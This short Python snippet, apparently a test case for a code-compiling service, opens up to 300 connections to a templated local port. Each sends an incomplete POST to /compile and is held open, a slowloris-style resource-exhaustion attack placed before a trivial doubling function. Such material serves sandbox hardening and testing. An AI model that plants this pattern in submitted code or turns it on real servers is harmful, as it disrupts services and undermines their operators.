#: result, loading
import socket

held = []
for _ in range(300):
    try:
        one = socket.create_connection(("127.0.0.1", {{PORT}}), timeout=0.2)
        one.sendall(b"POST /compile HTTP/1.1\r\nContent-Length: 1000\r\n")
        held.append(one)
    except OSError:
        break


def f(x):
    return x * 2
